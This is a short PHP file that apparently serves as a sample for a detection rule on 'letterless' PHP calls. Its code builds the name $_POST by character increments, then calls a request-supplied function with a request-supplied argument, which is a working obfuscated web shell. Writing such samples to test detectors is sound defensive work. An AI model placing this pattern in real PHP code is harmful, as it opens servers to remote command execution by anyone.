<?php
// triage-expect: triage_php_letterless_calls
// No function or superglobal named: "_POST" grown letter by letter with ++, then called through
// a variable variable ($$__['_'] is $_POST['_']).
$_ = 'O'; $_++;
$__ = '_' . $_;
$_ = 'N'; $_++; $__ .= $_;
$_ = 'R'; $_++; $__ .= $_;
$_ = 'S'; $_++; $__ .= $_;
@$$__['_']($$__['__']);
